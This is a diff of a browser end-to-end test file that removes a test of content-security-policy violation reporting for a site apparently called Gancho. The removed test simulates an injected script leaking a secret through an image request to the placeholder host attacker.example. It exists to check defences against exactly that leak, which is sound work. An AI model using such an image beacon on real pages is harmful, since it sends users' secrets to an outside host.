@@ -262,18 +262,4 @@ test.describe("a script that got into a page all the same", () => {
       build: "allowed",
     });
   });
-
-  test("is reported to Gancho by the browser, once, and without the page's content (threat: an unnoticed attack)", async ({
-    page,
-  }) => {
-    await page.goto("/sign-in?callbackUrl=%2Fwhat-the-address-held");
-    const reported = page.waitForResponse((response) =>
-      response.url().endsWith("/api/policy-violations"),
-    );
-    await page.evaluate(() => {
-      const image = new Image();
-      image.src = "https://attacker.example/stolen?secret=1";
-    });
-    expect((await reported).status()).toBe(204);
-  });
 });
